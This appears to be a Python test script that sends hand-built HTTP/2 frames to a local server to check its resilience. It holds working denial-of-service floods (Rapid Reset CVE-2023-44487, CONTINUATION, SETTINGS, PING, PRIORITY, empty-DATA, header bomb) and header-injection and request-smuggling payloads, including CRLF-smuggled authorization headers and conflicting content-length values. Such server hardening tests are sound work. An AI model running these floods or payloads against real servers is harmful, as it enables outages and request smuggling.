"""HTTP/2 that no library would send: the frames are made by hand.

Prints what became of each attack: statuses and resets by stream, whether the connection was told to go away, whether it was
closed, and whether a well-behaved request on a new connection still works afterwards. A request is for `host` by `scheme`, or for a
tunnel to `connect`.
"""

import socket
import time

from common import ARGUMENT, context, finish
from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
    WindowUpdateFrame,
)

AUTHORITY = ARGUMENT.get("host") or ARGUMENT["authority"]
PATH = ARGUMENT.get("path", "/")
METHOD, SCHEME, HOST = (":method", "GET"), (":scheme", ARGUMENT.get("scheme", "https")), (":authority", AUTHORITY)
GOOD = [METHOD, SCHEME, HOST, (":path", PATH)]
if "connect" in ARGUMENT:
    GOOD = [(":method", "CONNECT"), (":authority", ARGUMENT["connect"])]


class Peer:
    """One connection and what was seen on it."""

    def __init__(self, settings=None):
        host, port = ARGUMENT["authority"].rsplit(":", 1)
        raw = socket.create_connection(("127.0.0.1", int(port)), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = context(["h2"]).wrap_socket(raw, server_hostname=host)
        self.encoder, self.decoder, self.buffer = Encoder(), Decoder(), b""
        self.statuses, self.resets, self.ended = {}, {}, set()
        self.goaway, self.closed = None, False
        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0, settings=settings or {}).serialize())

    def write(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            self.closed = True

    def request(self, stream, headers=(), method="GET", path=PATH, body=None, pseudo=None):
        if method != "GET" or path != PATH:
            pseudo = pseudo or [(":method", method), SCHEME, HOST, (":path", path)]
        pseudo = pseudo or GOOD
        self.raw_headers(stream, [*pseudo, *headers], end=body is None)
        if body is not None:
            frame = DataFrame(stream, data=body)
            frame.flags.add("END_STREAM")
            self.write(frame.serialize())

    def raw_headers(self, stream, headers, end=True):
        frame = HeadersFrame(stream, data=self.encoder.encode(headers))
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        self.write(frame.serialize())

    def read(self, seconds, until=None):
        """Reads for a while, or until the streams named have all ended, or the peer hangs up."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.closed:
            if until and until <= self.ended | set(self.resets):
                return
            self.socket.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                data = self.socket.recv(65536)
            except socket.timeout:
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buffer += data
            self.frames()

    def frames(self):
        """Takes whole frames off the buffer, whatever state a well-behaved peer would be in."""
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self.note(frame)

    def note(self, frame):
        if isinstance(frame, HeadersFrame):
            fields = dict(self.decoder.decode(frame.data))
            self.statuses[frame.stream_id] = int(fields.get(":status", 0))
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.write(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.write(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
        if "END_STREAM" in frame.flags:
            self.ended.add(frame.stream_id)


def rapid_reset(peer):
    """CVE-2023-44487: streams opened and cancelled faster than they are worked off."""
    for number in range(5000):
        stream = 1 + 2 * number
        peer.raw_headers(stream, GOOD)
        peer.write(RstStreamFrame(stream, error_code=8).serialize())
        if peer.closed:
            break
    peer.read(5)


def continuation_flood(peer):
    """CVE-2024-27316 and kin: a header block that never ends."""
    frame = HeadersFrame(1, data=peer.encoder.encode([(":method", "GET")]))
    peer.write(frame.serialize())
    for number in range(4000):
        block = peer.encoder.encode([(f"x-{number}", "y" * 200)])
        peer.write(ContinuationFrame(1, data=block).serialize())
        if peer.closed:
            break
    peer.read(5)


def settings_flood(peer):
    for _ in range(20000):
        peer.write(SettingsFrame(0).serialize())
        if peer.closed:
            break
    peer.read(2)


def ping_flood(peer):
    for _ in range(20000):
        peer.write(PingFrame(0, opaque_data=b"12345678").serialize())
        if peer.closed:
            break
    peer.read(2)


def window_flood(peer):
    for _ in range(20000):
        peer.write(WindowUpdateFrame(0, window_increment=1).serialize())
        if peer.closed:
            break
    peer.read(2)


def priority_flood(peer):
    """Streams that depend on each other and are never opened."""
    for number in range(20000):
        peer.write(PriorityFrame(1 + 2 * (number % 1000), depends_on=1 + 2 * ((number + 1) % 1000), stream_weight=7).serialize())
        if peer.closed:
            break
    peer.read(2)


def empty_data_flood(peer):
    """CVE-2019-9518: frames that carry nothing and end nothing."""
    if "connect" in ARGUMENT:
        peer.raw_headers(1, GOOD, end=False)
    else:
        peer.raw_headers(1, [(":method", "POST"), SCHEME, HOST, (":path", PATH)], end=False)
    for _ in range(20000):
        peer.write(DataFrame(1, data=b"").serialize())
        if peer.closed:
            break
    peer.read(2)


def header_bomb(peer):
    """CVE-2016-6581: one long field in the table, named a thousand times for a byte each."""
    field = ("x-a", "y" * 3000)
    peer.raw_headers(1, [*GOOD, field, *[field] * 1000])
    peer.read(5, until={1})


def tiny_windows(peer):
    """CVE-2019-9511 and kin: many answers, of which a byte is taken at a time."""
    for number in range(200):
        peer.raw_headers(1 + 2 * number, GOOD)
        peer.write(WindowUpdateFrame(1 + 2 * number, window_increment=1).serialize())
        if peer.closed:
            break
    peer.read(3)


tiny_windows.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}


def one(headers=(), **how):
    def attack(peer):
        peer.request(1, headers, **how)
        peer.read(5, until={1})
    return attack


def pseudo(*fields):
    return one(pseudo=list(fields))


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_flood": window_flood,
    "priority_flood": priority_flood,
    "empty_data_flood": empty_data_flood,
    "header_bomb": header_bomb,
    "tiny_windows": tiny_windows,
    "connection_header": one([("connection", "close")]),
    "connection_named_header": one([("connection", "x-secret"), ("x-secret", "1")]),
    "transfer_encoding": one([("transfer-encoding", "chunked")], method="POST", body=b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"),
    "keep_alive": one([("keep-alive", "5")]),
    "upgrade": one([("upgrade", "websocket")]),
    "te": one([("te", "gzip")]),
    "uppercase_name": one([("X-Upper", "1")]),
    "space_in_name": one([("x upper", "1")]),
    "crlf_in_value": one([("x-a", "b\r\nauthorization: Bearer mine")]),
    "crlf_in_path": one(path=PATH + " HTTP/1.1\r\nx-a: b\r\n"),
    "null_in_value": one([("x-a", "b\0c")]),
    "two_hosts": one([("host", "evil.test")]),
    "host_twice": one([("host", AUTHORITY), ("host", "evil.test")]),
    "length_too_long": one([("content-length", "100")], method="POST", body=b"short"),
    "length_too_short": one([("content-length", "1")], method="POST", body=b"longer"),
    "length_twice": one([("content-length", "5"), ("content-length", "6")], method="POST", body=b"short"),
    "length_not_a_number": one([("content-length", "+5")], method="POST", body=b"short"),
    "no_path": pseudo(METHOD, SCHEME, HOST),
    "empty_path": pseudo(METHOD, SCHEME, HOST, (":path", "")),
    "two_paths": pseudo(METHOD, SCHEME, HOST, (":path", PATH), (":path", "/other")),
    "two_authorities": pseudo(METHOD, SCHEME, HOST, (":authority", "evil.test"), (":path", PATH)),
    "unknown_pseudo": pseudo(METHOD, SCHEME, HOST, (":path", PATH), (":evil", "1")),
    "pseudo_after_header": pseudo(METHOD, SCHEME, HOST, ("x-a", "b"), (":path", PATH)),
    "response_pseudo": pseudo(METHOD, SCHEME, HOST, (":path", PATH), (":status", "200")),
    "scheme_with_authority": pseudo(METHOD, (":scheme", "https://evil.test/"), HOST, (":path", PATH)),
    "relative_path": pseudo(METHOD, SCHEME, HOST, (":path", "up/x")),
    "asterisk_path": pseudo(METHOD, SCHEME, HOST, (":path", "*")),
    "absolute_path": pseudo(METHOD, SCHEME, HOST, (":path", "https://evil.test/up/x")),
}



def became(name):
    attack = ATTACKS[name]
    attacker = Peer(getattr(attack, "settings", None))
    attack(attacker)
    after = Peer()
    after.request(1)
    after.read(10, until={1})
    return dict(
        statuses=list(attacker.statuses.values()), resets=len(attacker.resets), goaway=attacker.goaway,
        closed=attacker.closed, after=after.statuses.get(1),
    )


if ARGUMENT["attacks"] == "list":
    finish(attacks=sorted(ATTACKS))
else:
    finish(**{name: became(name) for name in ARGUMENT["attacks"]})
